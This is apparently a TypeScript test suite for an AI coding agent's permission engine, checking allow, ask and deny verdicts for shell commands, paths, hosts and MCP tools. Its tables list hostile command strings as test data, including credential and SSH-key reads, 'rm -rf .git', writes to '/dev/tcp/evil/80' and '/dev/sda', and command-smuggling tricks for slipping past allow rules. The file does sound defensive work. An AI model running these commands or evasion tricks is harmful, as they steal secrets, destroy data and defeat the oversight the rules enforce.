import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';

import { isAgentError } from '../../src/agent-error.ts';
import { parseRules } from '../../src/permissions/permission-rule.ts';
import { type PermissionMode, type Permissions, createPermissions } from '../../src/permissions/permissions.ts';
import { createProtectedPaths } from '../../src/permissions/protected-paths.ts';
import { resolveLinks } from '../../src/permissions/resolve-links.ts';

const root = realpathSync(mkdtempSync(join(tmpdir(), 'sx-permissions-')));
after(() => rmSync(root, { recursive: true }));
const home = `${root}/home`;
const project = `${root}/project`;
const shared = `${root}/shared`;
for (const path of [`${project}/src`, `${project}/.git`, `${project}/secrets`, `${home}/.ssh`, `${shared}/private`, `${home}/.scorpiox/credentials`]) mkdirSync(path, { recursive: true });
writeFileSync(`${project}/src/a.ts`, '');
symlinkSync('/etc', `${project}/etc`);
symlinkSync(`${shared}/private`, `${project}/linked`);
symlinkSync(`${root}/nothing-there`, `${project}/dangling`);
symlinkSync('secrets', `${project}/alias`);

function permissions(rules: string, mode: PermissionMode = 'default'): Permissions {
  return createPermissions({
    mode,
    rules: parseRules(rules, 'rules'),
    workingDirectory: project,
    additionalDirectories: [shared],
    home,
    protectedPaths: createProtectedPaths({ home, stateDirectory: `${home}/.scorpiox`, workingDirectory: project }),
  });
}

const shell = (rules: string, command: string, mode?: PermissionMode): string => permissions(rules, mode).decide('shell', [{ action: 'shell', command, cwd: project }]).behavior;
const path = (rules: string, action: 'read' | 'edit', name: string, mode?: PermissionMode): string =>
  permissions(rules, mode).decide(action, [{ action, path: resolveLinks(name.startsWith('/') ? name : `${project}/${name}`) }]).behavior;

type Verdict = 'allow' | 'ask' | 'deny';

const shellTable: readonly (readonly [rules: string, verdict: Verdict, commands: readonly string[]])[] = [
  ['', 'ask', ['ls', 'true', '', 'echo $(', 'cat src/a.ts']],
  [
    'allow shell(git log:*)',
    'allow',
    ['git log', 'git log -3 --oneline', '  git   log', 'git "log"', "git 'lo'g", 'git log && git log', 'git log | git log', '(git log)', 'if git log; then true; fi', 'git log $x', 'git log 2>/dev/null', 'git log 2>&1', 'cd src && git log', 'x=1; git log', 'git log # rm'],
  ],
  [
    'allow shell(git log:*)',
    'ask',
    [
      'git', 'git logs', 'git push', 'gitlog', 'git log; rm x', 'git log && rm x', 'git log || rm x', 'git log | sh', 'git log & rm x', 'git log\nrm x', 'git log $(rm x)', 'git log "$(rm x)"', 'git log `rm x`',
      'git log <(rm x)', 'git log > f', 'git log >> src/a.ts', 'git log > /etc/passwd', 'git log > $x', 'git log > ~/f', 'git log > etc/passwd', 'cd src && git log > ../f', 'cd / && git log', 'cd .. && git log', 'cd etc && git log',
      'GIT_PAGER=rm git log', 'PATH=/tmp git log', 'PATH=/tmp; git log', 'LD_PRELOAD=x git log', 'for PATH in /tmp; do git log; done', 'https_proxy=x git log', './git log', '/tmp/git log', '"git log"', '$g log', 'git $x', 'g?t log', '{git,log}', '~/git log',
      'sudo git log', 'env git log', 'xargs git log', 'sh -c "git log"', 'eval git log', 'git -c core.pager=rm log', "git\\ log", 'git log${IFS}; rm', 'f() { rm; }; git log', 'alias git=rm\ngit log', 'git log <<E\n$(rm x)\nE', 'git log ${x:=$(rm)}', 'git log $((x))', "git log $'\\n'rm", 'git log\r\nrm', 'git log\u0000', 'git log &> f',
      'case x in x) git log;; esac', 'command git log', 'exec git log', 'time git log', 'git log; . f', 'git log; source f',
    ],
  ],
  ['allow shell(npm test)', 'allow', ['npm test']],
  ['allow shell(npm test)', 'ask', ['npm test -- x', 'npm run test', 'npm']],
  ['allow shell(xargs:*)\nallow shell(env:*)\nallow shell(sh -c:*)\nallow shell(sudo -n:*)', 'ask', ['xargs rm', 'env rm', 'sh -c rm', 'sudo -n rm', 'xargs']],
  ['allow shell(xargs grep:*)', 'allow', ['xargs grep x']],
  ['allow shell(find:*)', 'allow', ['find . -name "*.ts"']],
  ['allow shell(find:*)', 'ask', ['find . -exec rm {} +', 'find . -delete', 'find . -fprintf f x', 'find . $x']],
  ['allow shell(printf:*)\nallow shell(test:*)', 'ask', ["printf -v 'a[$(rm)]' x", "test -v 'a[`rm`]'"]],
  ['allow shell(cat:*)\nallow shell(rm:*)', 'deny', ['cat ~/.ssh/id_rsa', 'cat $HOME/.ssh/id', 'cat ${HOME}/.ssh/id', 'cat ../home/.ssh/id', 'cat < ~/.ssh/x; cat ../home/.ssh/id', 'rm -rf .git', 'rm -rf .git/hooks', 'cat /proc/self/environ', `cat ${home}/.scorpiox/credentials/codex.json`, 'cd ../home && cat .ssh/id', 'cat scorpiox-env.txt']],
  ['allow shell(cat:*)\nallow shell(ls:*)', 'allow', ['cat .git/config', 'ls .git', 'cat src/a.ts', 'cat < src/a.ts', 'cat /proc/cpuinfo']],
  ['allow shell(cat:*)', 'ask', ['cat < /etc/hostname', 'cat < etc/hostname']],
  ['allow shell', 'allow', ['make', 'FOO=1 make', 'sudo make', 'a | b && c', 'x > /dev/null']],
  ['allow shell', 'ask', ['x > f', 'x > /etc/passwd', 'case x in x) y;; esac', 'f() { x; }; f', 'x >& f']],
  ['allow shell\nallow edit', 'allow', ['x > f', 'x > src/new.ts', 'cat <<E > f\nx\nE']],
  ['allow shell\nallow edit', 'ask', ['x > /tmp/f', 'x > etc/f', 'x > dangling', 'x > $f', 'cd src; x > f', 'x > src/../../f', 'x > linked/f']],
  ['allow shell\nallow edit', 'deny', ['x > .git/hooks/pre-commit', 'x > .git/../.git/config', 'x > .scorpiox/permissions.txt', 'x > /dev/sda', 'x > /dev/tcp/evil/80']],
  ['allow shell\ndeny shell(git push:*)', 'allow', ['git log', 'git commit -m "push"', 'git commit -m "$m"', 'git log --grep push', 'git diff "$f"', 'echo git push', 'env git log', 'xargs grep "$p"']],
  [
    'allow shell\ndeny shell(git push:*)',
    'deny',
    [
      'git push', 'git push origin', 'ls; git push', 'ls && (git push)', 'echo $(git push)', 'echo `git push`', '/usr/bin/git push', 'g"i"t pu\\sh', 'git -C x push', 'git --no-pager -c a=b push', 'git $x', '$git push', 'git "$x"', 'git {push,x}', 'git pus?',
      'env git push', 'env A=1 git push', 'A=1 git push', 'sudo git push', 'sudo -u x git push', 'xargs git push', 'sh -c "git push"', "bash -lc 'ls; git push'", 'eval git push', "eval 'git push'", 'nohup git push', 'timeout 5 git push', 'time git push', 'command git push', 'exec git push',
      "sh -c 'sh -c \"git push\"'", 'find . -exec git push \\;', 'if true; then git push; fi', 'for i in 1; do git push; done', 'f() { git push; }; f', 'case x in x) git push;; esac', 'cat <<E\n$(git push)\nE', 'ls <(git push)', 'ls &> f; git push', '[[ a ]] && git push', 'xargs -I{} sh -c "git push {}"', 'env $x', 'sudo -u x $y',
    ],
  ],
  ['allow shell\ndeny shell(rm -rf:*)', 'deny', ['rm -rf x', 'rm -fr x', 'rm -r -f x', 'rm -v -rf x', 'rm x -rf', '/bin/rm -rf x', 'rm $flags x']],
  ['allow shell\ndeny shell(rm -rf:*)', 'allow', ['rm x', 'rm -r x', 'rmdir x']],
  ['allow shell\nask shell(npm publish:*)', 'ask', ['npm publish', 'npm --x publish', 'true && npm publish']],
  ['deny shell\nallow shell', 'deny', ['ls']],
  ['deny bash', 'deny', ['ls']],
  ['allow Bash(ls:*)', 'allow', ['ls -l']],
  ['allow shell\ndeny read(./secrets/**)', 'deny', ['cat secrets/a', 'cat ./secrets/a', 'grep x src/../secrets/a', 'cat alias/a', 'cp secrets/a b', 'dd if=secrets/a', 'curl -d @secrets/a x', 'sh -c "cat secrets/a"', 'cd secrets; cat a', 'x < secrets/a', 'cat "$(cat secrets/a)"', 'tar -Csecrets x']],
  ['allow shell\ndeny edit(src/**)', 'deny', ['sed -i s/a/b/ src/a.ts', 'x > src/a.ts', 'rm -r src']],
  ['allow shell\ndeny edit(src/**)', 'allow', ['cat src/a.ts', 'grep x src']],
];

for (const [rules, verdict, commands] of shellTable) {
  for (const command of commands) test(`${verdict} ${JSON.stringify(command)} under ${JSON.stringify(rules)}`, () => assert.equal(shell(rules, command), verdict));
}

const modeTable: readonly (readonly [PermissionMode, string, Verdict, readonly string[]])[] = [
  ['bypass', '', 'allow', ['rm -rf x', 'x > /tmp/f', 'x > $f', 'case x in x) y;; esac', 'echo $(']],
  ['bypass', '', 'deny', ['x > .git/config', 'cat ~/.ssh/id_rsa', 'rm -rf .git']],
  ['bypass', 'deny shell(git push:*)', 'deny', ['git push', 'echo "$(git push', 'f() { git push; }; f']],
  ['bypass', 'ask shell(git push:*)', 'ask', ['git push']],
  ['plan', 'allow shell\nallow edit', 'deny', ['ls', 'x > f']],
  ['accept-edits', '', 'ask', ['ls', 'x > f']],
  ['accept-edits', 'allow shell(x:*)', 'allow', ['x > f']],
  ['accept-edits', 'allow shell(x:*)', 'ask', ['x > /tmp/f', 'x > etc/f', 'x > dangling']],
];
for (const [mode, rules, verdict, commands] of modeTable) {
  for (const command of commands) test(`${mode}: ${verdict} ${JSON.stringify(command)} under ${JSON.stringify(rules)}`, () => assert.equal(shell(rules, command, mode), verdict));
}

const pathTable: readonly (readonly [rules: string, action: 'read' | 'edit', verdict: Verdict, paths: readonly string[], mode?: PermissionMode])[] = [
  ['', 'read', 'allow', ['src/a.ts', '.', 'new.ts', '.git/config', `${shared}/x`, 'linked/x', '.env']],
  ['', 'read', 'ask', ['/etc/passwd', 'etc/passwd', '../x', 'src/../../x', 'dangling', `${project}x/y`, '/']],
  ['', 'read', 'deny', [`${home}/.ssh/id_rsa`, `${home}/.codex/auth.json`, `${home}/.netrc`, `${home}/.scorpiox/credentials/x`, 'scorpiox-env.txt', 'sub/scorpiox-env.txt', '/proc/self/environ', '/proc/1/environ', '/proc/1/task/1/mem']],
  ['allow read(/**)', 'read', 'deny', [`${home}/.ssh/id_rsa`, '/proc/self/environ']],
  ['allow read(/**)', 'read', 'allow', ['/etc/passwd', '../x']],
  ['allow read', 'read', 'ask', ['/etc/passwd']],
  ['', 'edit', 'ask', ['src/a.ts', '/etc/passwd']],
  ['allow edit', 'edit', 'allow', ['src/a.ts', 'new/b.ts']],
  ['allow write', 'edit', 'allow', ['src/a.ts']],
  ['allow edit', 'edit', 'ask', ['/etc/passwd', 'etc/passwd', 'linked/x', `${shared}/x`, 'dangling']],
  ['allow edit(src/**)', 'edit', 'allow', ['src/a.ts', 'src/deep/er/b.ts', 'src/../src/a.ts']],
  ['allow edit(src/**)', 'edit', 'ask', ['b.ts', 'srcx/a.ts', 'src/../b.ts', 'etc/src/a.ts']],
  ['allow edit(etc/**)', 'edit', 'ask', ['etc/passwd']],
  ['allow edit(*.md)', 'edit', 'allow', ['a.md', 'deep/b.md']],
  ['allow edit(./*.md)', 'edit', 'ask', ['deep/b.md']],
  [`allow edit(${shared}/**)`, 'edit', 'allow', [`${shared}/x`, 'linked/x']],
  ['allow edit(~/notes/**)', 'edit', 'allow', [`${home}/notes/a`]],
  ['allow edit(/**)', 'edit', 'deny', ['.git/config', '.git', 'sub/.git/hooks/x', '.scorpiox/x', `${home}/.scorpiox/permissions.txt`, `${home}/.bashrc`, `${home}/.ssh/x`, '/proc/sys/x', '/dev/sda']],
  ['', 'edit', 'allow', ['src/a.ts', 'new/b.ts'], 'accept-edits'],
  ['', 'edit', 'ask', ['/tmp/x', 'etc/x', 'dangling', `${shared}/x`], 'accept-edits'],
  ['', 'edit', 'deny', ['.git/hooks/x'], 'accept-edits'],
  ['', 'edit', 'allow', ['/tmp/x', 'etc/x'], 'bypass'],
  ['', 'edit', 'deny', ['.git/hooks/x', `${home}/.bashrc`], 'bypass'],
  ['allow edit', 'edit', 'deny', ['src/a.ts'], 'plan'],
  ['', 'read', 'allow', ['src/a.ts'], 'plan'],
  ['deny read(./secrets/**)', 'read', 'deny', ['secrets/a', 'secrets', 'alias/a', 'src/../secrets/a']],
  ['deny read(secrets)', 'read', 'deny', ['secrets/a', 'deep/secrets/a']],
  ['deny read(alias/**)', 'read', 'deny', ['secrets/a']],
  ['deny read(.env*)\nallow read(.env.example)', 'read', 'deny', ['.env', '.env.example', 'sub/.env.local']],
  ['deny edit(src/**)\nallow edit(src/a.ts)', 'edit', 'deny', ['src/a.ts']],
  ['deny edit(src/**)', 'edit', 'deny', ['src/a.ts'], 'bypass'],
  ['ask edit(src/**)', 'edit', 'ask', ['src/a.ts'], 'accept-edits'],
];
for (const [rules, action, verdict, paths, mode] of pathTable) {
  for (const name of paths) test(`${mode ?? 'default'}: ${verdict} ${action} ${name.replace(root, '')} under ${JSON.stringify(rules.replaceAll(root, ''))}`, () => assert.equal(path(rules, action, name, mode), verdict));
}

const otherTable: readonly (readonly [rules: string, toolName: string, access: Parameters<Permissions['decide']>[1], verdict: Verdict])[] = [
  ['', 'web_fetch', [{ action: 'network', host: 'example.com' }], 'ask'],
  ['allow network(example.com)', 'web_fetch', [{ action: 'network', host: 'EXAMPLE.com.' }], 'allow'],
  ['allow network(example.com)', 'web_fetch', [{ action: 'network', host: 'evil-example.com' }], 'ask'],
  ['allow network(*.example.com)', 'web_fetch', [{ action: 'network', host: 'a.example.com' }], 'allow'],
  ['allow network(*.example.com)', 'web_fetch', [{ action: 'network', host: 'example.com' }], 'ask'],
  ['allow network\ndeny network(*.evil.com)', 'web_fetch', [{ action: 'network', host: 'a.evil.com' }], 'deny'],
  ['', 'mcp__github__create', [{ action: 'tool', name: 'mcp__github__create' }], 'ask'],
  ['allow mcp__github__create', 'mcp__github__create', [{ action: 'tool', name: 'mcp__github__create' }], 'allow'],
  ['allow mcp__github', 'mcp__github__create', [{ action: 'tool', name: 'mcp__github__create' }], 'allow'],
  ['allow mcp__github__*', 'mcp__github__create', [{ action: 'tool', name: 'mcp__github__create' }], 'allow'],
  ['allow mcp__git', 'mcp__github__create', [{ action: 'tool', name: 'mcp__github__create' }], 'ask'],
  ['allow mcp__github\ndeny mcp__github__delete', 'mcp__github__delete', [{ action: 'tool', name: 'mcp__github__delete' }], 'deny'],
  ['deny grep', 'grep', [{ action: 'read', path: project }], 'deny'],
  ['deny todo', 'todo', [], 'deny'],
  ['', 'todo', [], 'allow'],
  ['allow edit', 'both', [{ action: 'edit', path: `${project}/a` }, { action: 'edit', path: '/etc/passwd' }], 'ask'],
  ['allow edit\ndeny read(a)', 'both', [{ action: 'read', path: `${project}/a` }, { action: 'edit', path: `${project}/a` }], 'deny'],
];
for (const [rules, name, accesses, verdict] of otherTable) {
  test(`${verdict} ${name} ${JSON.stringify(accesses).replaceAll(root, '')} under ${JSON.stringify(rules)}`, () => assert.equal(permissions(rules).decide(name, accesses).behavior, verdict));
}

for (const line of ['alow edit', 'allow', 'allow edit(', 'allow edit()', 'allow shell(a; b)', 'allow shell(a $(b))', 'allow shell(a > b)', 'allow shell(A=1 b)', 'allow shell(npm run t*)', 'allow grep(x)', 'allow ed*', 'deny "x"', 'edit']) {
  test(`refuses the rule ${JSON.stringify(line)} and names its line`, () => {
    assert.throws(() => parseRules(`# a comment\n\n${line}`, 'p.txt'), (error) => isAgentError(error) && error.code === 'AGENT_BAD_RULE' && error.message.startsWith('p.txt:3'));
  });
}

test('suggests a rule that would allow the same again', () => {
  for (const command of ['git log -3', 'ls -l src', 'make', 'npm test', './run.sh a']) {
    const decision = permissions('').decide('shell', [{ action: 'shell', command, cwd: project }]);
    assert.ok(decision.behavior === 'ask' && decision.suggestedRule !== undefined, command);
    assert.equal(shell(`allow ${decision.suggestedRule}`, command), 'allow', decision.suggestedRule);
  }
  const edit = permissions('').decide('edit', [{ action: 'edit', path: `${project}/src/a.ts` }]);
  assert.equal(edit.behavior === 'ask' ? edit.suggestedRule : '', 'edit(./src/a.ts)');
});

for (const [command, rule] of [
  ['npm run test:terminal -- --update', 'npm run test:terminal:*'],
  ['npm run', 'npm run'],
  ['npm run -w app build', 'npm run -w app build'],
  ['npm test', 'npm test:*'],
  ['npm exec tsc -- -p .', 'npm exec tsc:*'],
  ['pnpm run lint', 'pnpm run lint:*'],
  ['pnpm --filter app run lint', 'pnpm --filter app run lint'],
  ['yarn run lint', 'yarn run lint:*'],
  ['yarn workspace app run lint', 'yarn workspace app run lint:*'],
  ['yarn lint', 'yarn lint:*'],
  ['npx tsc --noEmit', 'npx tsc:*'],
  ['gh run view 3', 'gh run view:*'],
  ['npm run "a b"', undefined],
  ['bun run build', 'bun run build:*'],
  ['deno task build', 'deno task build:*'],
  ['node --run build', 'node --run build'],
  ['node tool.js x', 'node tool.js:*'],
  ['uv run pytest -q', 'uv run pytest:*'],
  ['bundle exec rspec', 'bundle exec rspec:*'],
  ['go run ./cmd/x', 'go run ./cmd/x'],
  ['cargo test --all', 'cargo test:*'],
  ['cargo run --bin x', 'cargo run --bin x'],
  ['git commit -m x', 'git commit:*'],
  ['git stash drop', 'git stash drop:*'],
  ['git stash', 'git stash'],
  ['git -C a log', 'git -C a log'],
  ['docker compose up -d', 'docker compose up:*'],
  ['docker compose exec db psql', 'docker compose exec db:*'],
  ['docker ps -a', 'docker ps:*'],
  ['docker run alpine ls', 'docker run alpine:*'],
  ['docker run -it alpine', 'docker run -it alpine'],
  ['kubectl get pods', 'kubectl get:*'],
  ['gh pr view 3', 'gh pr view:*'],
  ['make test -j4', 'make test:*'],
  ['rm build', 'rm build'],
  ['mv a b', 'mv a b'],
  ['/bin/cp a b', '/bin/cp a b'],
  ['curl example.com', 'curl example.com'],
  ['python -m pytest', 'python -m pytest'],
] as const) {
  test(`suggests ${rule} for ${command}`, () => {
    const decision = permissions('').decide('shell', [{ action: 'shell', command, cwd: project }]);
    assert.ok(decision.behavior === 'ask');
    assert.equal(decision.suggestedRule, rule === undefined ? undefined : `shell(${rule})`);
    if (rule !== undefined) assert.equal(shell(`allow shell(${rule})`, command), 'allow');
  });
}

test('suggests no rule for a name that ends in a blank: it would be one for the file without it', () => {
  for (const blank of [' ', '\t', '\n', '\u00a0']) {
    const edit = permissions('').decide('edit', [{ action: 'edit', path: `${project}/Makefile${blank}` }]);
    assert.deepEqual([edit.behavior, 'suggestedRule' in edit], ['ask', false], JSON.stringify(blank));
  }
});

test('suggests no open rule for a program that runs its words', () => {
  const decision = permissions('').decide('shell', [{ action: 'shell', command: 'sudo -n rm -rf /', cwd: project }]);
  assert.ok(decision.behavior === 'ask');
  assert.equal(decision.suggestedRule, 'shell(sudo -n rm -rf /)');
});

test('a rule that is added counts from then on', () => {
  const live = permissions('');
  const access = { action: 'edit', path: `${project}/a` } as const;
  assert.equal(live.decide('edit', [access]).behavior, 'ask');
  for (const rule of parseRules('allow edit(a)', 'answer')) live.add(rule);
  assert.equal(live.decide('edit', [access]).behavior, 'allow');
});

test('walks do not see what reading is denied for', () => {
  const walker = permissions('deny read(./secrets/**)\nask read(*.pem)');
  assert.deepEqual(['src/a.ts', 'secrets/a', 'x.pem', 'scorpiox-env.txt'].map((name) => walker.mayRead(`${project}/${name}`)), [true, false, false, false]);
});

test('resolves links as the kernel does', () => {
  assert.equal(resolveLinks(`${project}/linked/../x`), `${shared}/x`);
  assert.equal(resolveLinks(`${project}/dangling`), `${root}/nothing-there`);
  assert.equal(resolveLinks(`${project}/missing/../../x`), `${root}/x`);
  assert.equal(resolveLinks('/..//.'), '/');
  symlinkSync('loop', `${project}/loop`);
  assert.equal(resolveLinks(`${project}/loop/x`), `${project}/loop/x`);
});

test('rules about MCP tools: one, those of a server, all of them', () => {
  const { decide } = permissions('allow mcp\ndeny mcp(github:drop)\nask mcp(slack)');
  const behavior = (name: string): string => decide(name, [{ action: 'tool', name }]).behavior;
  assert.deepEqual(['mcp__github__list', 'mcp__github__drop', 'mcp__slack__say', 'grep', 'mcp__githubber__drop'].map(behavior), ['allow', 'deny', 'ask', 'ask', 'allow']);
});
